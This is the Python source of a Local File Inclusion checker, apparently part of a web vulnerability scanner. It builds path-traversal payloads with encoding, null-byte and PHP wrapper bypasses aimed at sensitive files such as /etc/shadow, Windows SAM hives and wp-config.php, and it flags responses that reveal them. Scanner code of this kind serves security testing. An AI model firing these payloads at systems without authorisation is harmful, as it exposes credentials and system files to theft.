# bughunt/checkers/lfi.py
import base64
from itertools import chain, zip_longest
from typing import Any, Dict, List, Optional
from urllib.parse import quote

from bughunt.checkers.base import BaseChecker
from bughunt.core.catalog import ALL, PayloadCatalog
from bughunt.core.errors import ValidationError
from bughunt.core.models import (
    BaselineData, CatalogEntry, Finding, Intensity, PayloadOutcome, Severity,
)

COMMON_LFI_PARAMS = [
    "file", "page", "include", "path", "doc", "document", "folder", "root",
    "pg", "style", "pdf", "template", "php_path", "panel", "phppath", "name",
    "cat", "dir", "action", "board", "date", "detail", "download", "prefix",
    "inc", "locate", "show", "site", "type", "view", "content", "layout",
]

TARGET_FILES = {
    "linux": [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/etc/group",
        "/etc/fstab",
        "/etc/issue",
        "/etc/motd",
        "/etc/mysql/my.cnf",
        "/etc/httpd/conf/httpd.conf",
        "/etc/apache2/apache2.conf",
        "/var/log/apache2/access.log",
        "/var/log/apache2/error.log",
        "/proc/version",
        "/proc/cmdline",
        "/proc/self/environ",
        "/home/www-data/.bashrc",
        "/root/.bash_history",
        "/var/www/html/index.php",
    ],
    "windows": [
        "C:\\windows\\system32\\drivers\\etc\\hosts",
        "C:\\windows\\system32\\drivers\\etc\\passwd",
        "C:\\windows\\win.ini",
        "C:\\windows\\system.ini",
        "C:\\windows\\system32\\config\\sam",
        "C:\\windows\\system32\\config\\system",
        "C:\\windows\\system32\\config\\software",
        "C:\\windows\\repair\\sam",
        "C:\\windows\\repair\\system",
        "C:\\windows\\repair\\software",
        "C:\\boot.ini",
        "C:\\autoexec.bat",
        "C:\\config.sys",
        "C:\\inetpub\\wwwroot\\web.config",
        "C:\\xampp\\apache\\conf\\httpd.conf",
    ],
    "web": [
        "index.php",
        "config.php",
        "database.php",
        "wp-config.php",
        ".htaccess",
        ".htpasswd",
        "admin.php",
        "login.php",
        "connect.php",
        "db.php",
        "settings.php",
        "configuration.php",
        "../config.php",
        "../../config.php",
        "../../../config.php",
    ],
}

TECHNIQUES = ["basic", "encoding", "nullbyte", "wrappers"]
TARGET_CHOICES = [ALL, "custom"] + list(TARGET_FILES)

MAX_FILES = 20
PAYLOADS_PER_FILE = 10
MAX_DEPTH = 10

# per-file content markers
FILE_INDICATORS = {
    "/etc/passwd": ["root:", "bin:", "daemon:", "nobody:"],
    "/etc/hosts": ["localhost", "127.0.0.1", "::1"],
    "/etc/group": ["root:", "bin:", "sys:", "adm:"],
    "win.ini": ["[fonts]", "[extensions]", "[mci extensions]"],
    "boot.ini": ["boot loader", "[operating systems]"],
    "httpd.conf": ["ServerRoot", "DocumentRoot", "DirectoryIndex"],
    "wp-config.php": ["DB_NAME", "DB_USER", "DB_PASSWORD", "wp_"],
}

HIGH_RISK_FILES = ["/etc/passwd", "/etc/shadow", "sam", "system", "software", "wp-config.php"]
MEDIUM_RISK_FILES = ["/etc/", "config", ".conf", ".log", ".ini"]


def _uri_component(s: str) -> str:
    # same safe set as JavaScript's encodeURIComponent
    return quote(s, safe="!*'()")


def traversal_patterns(depth: int) -> List[str]:
    patterns = []
    for i in range(1, depth + 1):
        t = "../" * i
        patterns.append(t)
        patterns.append(t.replace("..", "%2e%2e"))
        patterns.append(t.replace("/", "%2f"))
        patterns.append(t.replace("..", "..%2f"))
        patterns.append(t.replace("..", "%2e%2e%2f"))
    return patterns


def file_payloads(file_path: str, technique: str, depth: int) -> Dict[str, List[tuple]]:
    """
    Payloads for one target file, grouped by technique as
    ``{technique: [(payload, label), ...]}``. Technique "all" runs every
    technique in TECHNIQUES order.
    """
    patterns = traversal_patterns(depth)
    selected = TECHNIQUES if technique == ALL else [technique]
    out: Dict[str, List[tuple]] = {}

    if "basic" in selected:
        out["basic"] = [(p + file_path, "Basic Traversal") for p in patterns]

    if "encoding" in selected:
        items = []
        for p in patterns[:3]:
            encoded = _uri_component(p + file_path)
            items.append((encoded, "URL Encoding"))
            items.append((_uri_component(encoded), "Double URL Encoding"))
            mixed = (p + file_path).replace("/", "%2f").replace(".", "%2e")
            items.append((mixed, "Mixed Encoding"))
        out["encoding"] = items

    if "nullbyte" in selected:
        items = []
        for p in patterns[:3]:
            items.append((p + file_path + "%00", "Null Byte Injection"))
            items.append((p + file_path + "%00.jpg", "Null Byte + Extension"))
            items.append((p + file_path + "\x00", "Raw Null Byte"))
        out["nullbyte"] = items

    if "wrappers" in selected:
        items = []
        if file_path.startswith("/"):
            b64 = base64.b64encode(file_path.encode()).decode()
            items = [
                (f"php://filter/read=convert.base64-encode/resource={file_path}", "PHP Filter Wrapper"),
                (f"php://filter/convert.base64-encode/resource={file_path}", "PHP Filter Base64"),
                (f"data://text/plain;base64,{b64}", "Data Wrapper"),
                (f"expect://{file_path}", "Expect Wrapper"),
            ]
        out["wrappers"] = items

    return out


class LFI(BaseChecker):
    """
    Local File Inclusion:
      - Traversal of configurable depth, raw and URL-encoded.
      - Null byte truncation and PHP/data/expect wrappers.
      - Target files grouped by OS family (linux, windows, web) or custom.
      - Detection by characteristic file content absent from the clean page.
    """

    name = "Local File Inclusion (LFI)"
    common_params = COMMON_LFI_PARAMS

    def __init__(self, url: str, parameters: Optional[str] = None,
                 target_files: str = ALL, custom_files: Optional[str] = None,
                 traversal_depth=5, bypass_techniques: str = ALL,
                 intensity=Intensity.MEDIUM, timeout=10):
        super().__init__(url, parameters, intensity, timeout)
        self.target_files = target_files
        self.custom_files = custom_files
        self.bypass_techniques = bypass_techniques
        if bypass_techniques != ALL and bypass_techniques not in TECHNIQUES:
            raise ValidationError(f"Invalid bypassTechniques: {bypass_techniques}")
        try:
            depth = int(traversal_depth)
        except (TypeError, ValueError):
            raise ValidationError("traversalDepth must be an integer")
        self.traversal_depth = min(max(depth, 1), MAX_DEPTH)

        self.files = self._select_files()
        self._payloads: Optional[List[CatalogEntry]] = None
        self.catalogs = self._build_catalogs()

    @classmethod
    def from_request(cls, data: Dict[str, Any]) -> "LFI":
        opt = cls.option
        return cls(
            url=data.get("url"),
            parameters=data.get("parameters"),
            target_files=opt(data, "targetFiles", ALL, TARGET_CHOICES),
            custom_files=data.get("customFiles"),
            traversal_depth=opt(data, "traversalDepth", 5),
            bypass_techniques=opt(data, "bypassTechniques", ALL, [ALL] + TECHNIQUES),
            timeout=opt(data, "timeout", 10),
        )

    # --------- payload selection ---------

    def _select_files(self) -> Dict[str, List[str]]:
        """family -> files, at most MAX_FILES in total."""
        if self.target_files == ALL:
            families = list(TARGET_FILES.items())
        elif self.target_files == "custom":
            raw = (self.custom_files or "").replace("\n", ",").split(",")
            custom = [f.strip() for f in raw if f.strip()]
            if not custom:
                raise ValidationError("customFiles is required when targetFiles is custom")
            families = [("custom", custom)]
        elif self.target_files in TARGET_FILES:
            families = [(self.target_files, TARGET_FILES[self.target_files])]
        else:
            families = [("linux", TARGET_FILES["linux"])]

        selected: Dict[str, List[str]] = {}
        left = MAX_FILES
        for family, files in families:
            if left <= 0:
                break
            selected[family] = list(files[:left])
            left -= len(selected[family])
        return selected

    def _build_catalogs(self) -> List[tuple]:
        """One (family, path, catalog) per target file."""
        catalogs = []
        for family, files in self.files.items():
            for path in files:
                grouped = file_payloads(path, self.bypass_techniques, self.traversal_depth)
                table, meta = {}, {}
                for tech, items in grouped.items():
                    table[tech] = {family: [p for p, _ in items]}
                    for payload, label in items:
                        meta[(tech, family, payload)] = (("label", label), ("file_path", path))
                catalogs.append((family, path, PayloadCatalog(table, meta=meta)))
        return catalogs

    def get_payloads(self) -> List[CatalogEntry]:
        """
        At most PAYLOADS_PER_FILE per file, interleaved round-robin: every
        file's first payload, then every file's second, and so on. A
        per-parameter cap therefore drops the weakest variants, never whole
        files.
        """
        if self._payloads is None:
            per_file = [catalog.base(self.bypass_techniques, family)[:PAYLOADS_PER_FILE]
                        for family, _path, catalog in self.catalogs]
            rounds = chain.from_iterable(zip_longest(*per_file))
            self._payloads = [e for e in rounds if e is not None]
        return self._payloads

    def per_parameter(self) -> int:
        return len(self.get_payloads()) or 1

    def configuration(self) -> Dict[str, Any]:
        return {
            "targetFiles": self.target_files,
            "bypassTechniques": self.bypass_techniques,
            "traversalDepth": self.traversal_depth,
        }

    # --------- classification ---------

    @staticmethod
    def severity(file_path: str) -> Severity:
        lower = file_path.lower()
        if any(f.lower() in lower for f in HIGH_RISK_FILES):
            return Severity.HIGH
        if any(f.lower() in lower for f in MEDIUM_RISK_FILES):
            return Severity.MEDIUM
        return Severity.LOW

    @staticmethod
    def evidence(body: str, file_path: str, baseline_body: str = "") -> Optional[str]:
        lower = (body or "").lower()
        base = (baseline_body or "").lower()

        def new(sign: str) -> bool:
            s = sign.lower()
            return s in lower and s not in base

        for target, signs in FILE_INDICATORS.items():
            if target in file_path.lower():
                for sign in signs:
                    if new(sign):
                        return f"Found {sign} in response"

        if new("root:") or new("daemon:"):
            return "Unix passwd file structure detected"
        if new("[fonts]") or new("[extensions]"):
            return "Windows INI file structure detected"
        return None

    def classify(self, outcome: PayloadOutcome,
                 baseline: Optional[BaselineData] = None) -> Optional[Finding]:
        baseline = baseline or BaselineData()
        file_path = outcome.request.meta_dict().get("file_path", "")
        evidence = self.evidence(outcome.response_signal.body, file_path, baseline.body)
        if evidence is None:
            return None

        return self.finding(
            outcome,
            severity=self.severity(file_path),
            evidence=evidence,
            discriminator=file_path,
            file_path=file_path,
            status_code=outcome.response_signal.status_code,
        )
